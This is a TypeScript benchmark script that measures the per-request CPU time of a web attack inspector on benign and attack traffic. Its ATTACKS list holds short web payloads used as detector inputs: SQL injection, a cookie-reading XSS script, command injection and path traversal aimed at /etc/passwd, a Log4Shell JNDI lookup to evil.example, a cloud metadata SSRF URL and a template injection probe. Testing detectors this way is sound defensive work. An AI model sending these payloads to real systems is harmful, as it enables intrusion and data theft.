/**
 * Micro-benchmark of the inspector alone (no sockets): median and p99 µs per request for benign GETs, benign
 * bodies (POST/PUT/PATCH) and attack requests, on one core, in CPU time (getrusage, µs resolution). Prints JSON.
 *
 *   node --import tsx bench/inspect.ts [--count 4000]
 */
import { generateBenignTraffic } from '../scripts/benign-traffic.ts';
import { caseToInput } from '../scripts/corpus-case.ts';
import { detectionConfigSchema } from '../src/detection/config.ts';
import { createInspector, type InspectionInput } from '../src/detection/inspector.ts';

const arg = (name: string, dflt: number): number => {
  const i = process.argv.indexOf(name);
  return i === -1 ? dflt : Number(process.argv[i + 1]);
};
const count = arg('--count', 4000);

const ATTACKS: InspectionInput[] = [
  "1' OR '1'='1' --",
  '<script>alert(document.cookie)</script>',
  '; cat /etc/passwd',
  '../../../../etc/passwd',
  '${jndi:ldap://evil.example/a}',
  'http://169.254.169.254/latest/meta-data/',
  '{{7*7}}',
].map((p) => ({
  method: 'GET',
  path: '/api/v1/search',
  rawQuery: `q=${encodeURIComponent(p)}&page=2`,
  headers: {
    host: 'api.example.com',
    'user-agent': 'Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0',
    accept: '*/*',
  },
  bodyComplete: true,
}));

type Stats = { median: number; p99: number; mean: number };

function stats(times: number[]): Stats {
  const t = [...times].sort((a, b) => a - b);
  const at = (q: number): number => t[Math.min(t.length - 1, Math.floor(q * t.length))]!;
  return { median: at(0.5), p99: at(0.99), mean: Number((t.reduce((a, b) => a + b, 0) / t.length).toFixed(1)) };
}

/** CPU time of one call, in µs (getrusage): the shared benchmark machine is oversubscribed, wall time is not ours. */
function cpuMicros(f: () => void): number {
  const c0 = process.cpuUsage();
  f();
  const c = process.cpuUsage(c0);
  return c.user + c.system;
}

/** A fixed reference workload, so readers can scale the figures to their machine (and see a busy host). */
function calibrationMicros(): number {
  const doc = JSON.stringify({ id: 42, name: "O'Brien", tags: ['a', 'b'], nested: { ok: true } });
  const c0 = process.cpuUsage();
  for (let i = 0; i < 100_000; i++) JSON.parse(doc);
  const c = process.cpuUsage(c0);
  return Number(((c.user + c.system) / 100_000).toFixed(3));
}

const inspector = createInspector(detectionConfigSchema.parse({}));
// Warm-up on other traffic (another seed): JIT and regex compilation, without pre-filling the clean-value cache
// with the requests measured below. Each measured request is seen once, in one pass, as in production.
for (const c of generateBenignTraffic(1000, 99)) inspector.inspect(caseToInput(c));
const cases = generateBenignTraffic(count, 3).map(caseToInput);
const get: number[] = [];
const body: number[] = [];
for (const input of cases) (input.body === undefined ? get : body).push(cpuMicros(() => inspector.inspect(input)));
const attack = Array.from({ length: 210 }, (_, i) => cpuMicros(() => inspector.inspect(ATTACKS[i % ATTACKS.length]!)));
inspector.close();
console.log(
  JSON.stringify(
    {
      node: process.version,
      unit: 'µs CPU per request',
      calibrationJsonParseMicros: calibrationMicros(),
      loadAverage: (await import('node:os')).loadavg()[0],
      requests: { get: get.length, body: body.length, attack: attack.length },
      benignAll: stats([...get, ...body]),
      benignGet: stats(get),
      benignBody: stats(body),
      attack: stats(attack),
    },
    null,
    2,
  ),
);
